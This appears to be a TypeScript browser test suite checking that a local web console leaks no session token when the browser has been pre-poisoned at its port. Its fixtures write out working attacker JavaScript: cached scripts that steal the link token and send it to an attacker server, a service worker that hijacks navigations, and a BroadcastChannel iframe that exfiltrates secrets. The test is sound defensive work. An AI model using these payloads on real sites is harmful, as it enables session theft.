import type { RequestListener } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { freePort } from '../../../cli/store/targets/embeddedEngine.ts';
import { hasBrowser, openBrowser } from '../../setup/browser.ts';
import { localWorld, startServer } from '../../setup/world.ts';
import { openConsole } from './openConsole.ts';

const local = await localWorld();
let browser: Browser;
beforeAll(async () => {
  if (hasBrowser) browser = await openBrowser();
});

const html = (text: string) => `<!doctype html><title>old</title>${text}`;

/** A script of the attacker that runs in an origin of theirs: it takes the token of the link, and tells the session. */
const thief = (teller: string) => `
  const [, token] = location.hash.split('#token=');
  const tell = (secret) => { location.href = '${teller}/told?' + secret; };
  if (token) fetch('/api/enter', { method: 'POST', headers: { 'x-ailog-token': token } })
    .then((answer) => answer.ok ? answer.text().then(tell) : undefined);`;

/** What somebody serves at a port before the console has it. The browser may keep it for a day. */
const earlier =
  (teller: string): RequestListener =>
  ({ url = '' }, response) => {
    const send = (type: string, text: string, kept = 'max-age=86400') =>
      response.setHeader('content-type', type).setHeader('cache-control', kept).end(text);
    const evil = html(`<script>${thief(teller)}</script>`);
    if (url.startsWith('/page')) return send('text/javascript', thief(teller));
    if (url === '/worker.js')
      return send(
        'text/javascript',
        `addEventListener('install', () => skipWaiting());
        addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        addEventListener('fetch', (event) => event.request.mode === 'navigate' &&
          event.respondWith(new Response(${JSON.stringify(evil)}, { headers: { 'content-type': 'text/html' } })));`,
      );
    if (url === '/registers')
      return send(
        'text/html',
        html(`<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
          .then(() => { document.title = 'ready'; });</script>`),
        'no-store',
      );
    if (url === '/asks')
      return send(
        'text/html',
        html(`<script>
          const tabs = new BroadcastChannel('ailog-console');
          tabs.onmessage = ({ data }) => data.secret && fetch('${teller}/told?' + data.secret, { mode: 'no-cors' });
          setInterval(() => tabs.postMessage('ask'), 100);
        </script>`),
        'no-store',
      );
    send('text/html', evil);
  };

/** What a browser has done before the console starts, at a port which the attacker has and on one beside it. */
const attacks: Readonly<Record<string, (page: Page, origin: string, teller: string) => Promise<unknown>>> = {
  'the script of the page, kept in the cache': async (page, origin, teller) => {
    await page.goto(teller);
    await page.evaluate(`new Promise((resolve) => {
      const script = Object.assign(document.createElement('script'), { src: '${origin}/page.js', onload: resolve });
      document.body.append(script);
    })`);
  },
  'the page, kept in the cache': async (page, origin, teller) => {
    await page.goto(teller);
    const [popup] = await Promise.all([page.waitForEvent('popup'), page.evaluate(`void open('${origin}/')`)]);
    await popup.waitForLoadState();
    await popup.close();
  },
  'a visit to the port': (page, origin) => page.goto(origin),
  'a service worker': async (page, origin) => {
    await page.goto(`${origin}/registers`);
    await page.waitForFunction('document.title === "ready"');
  },
  'a frame that is still open': async (page, origin, teller) => {
    await page.goto(teller);
    await page.evaluate(`new Promise((resolve) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: '${origin}/asks', onload: resolve }));
    })`);
  },
};

/** Waits until the page is that of the console. */
const opened = (page: Page) => page.waitForSelector('header.top', { timeout: 20_000 });

describe.runIf(hasBrowser)('a browser that is older than the console', () => {
  test.each(Object.entries(attacks))('has %s, and tells nobody a session', async (_name, attack) => {
    const told: string[] = [];
    const { url: elsewhere } = await startServer(({ url = '' }, response) => {
      if (url.startsWith('/told')) told.push(url);
      response.setHeader('content-type', 'text/html').end(html('<body>'));
    });
    const port = await freePort();
    const before = await startServer(earlier(elsewhere), port);
    const context: BrowserContext = await browser.newContext();
    // What an earlier page keeps open outlives it.
    await attack(await context.newPage(), `http://127.0.0.1:${port}`, elsewhere);
    await before.close();
    const console = await openConsole(local.folder, ['--no-sync', '--write', '--port', String(port)]);
    const page = await context.newPage();
    await page.goto(console.link);
    await expect.poll(async () => told.length + (await page.locator('header.top').count())).toBeGreaterThan(0);
    // An attacker who asks has asked by now.
    await page.waitForTimeout(1000);
    expect(told).toEqual([]);
    await opened(page);
    await console.end();
    await context.close();
  });
});
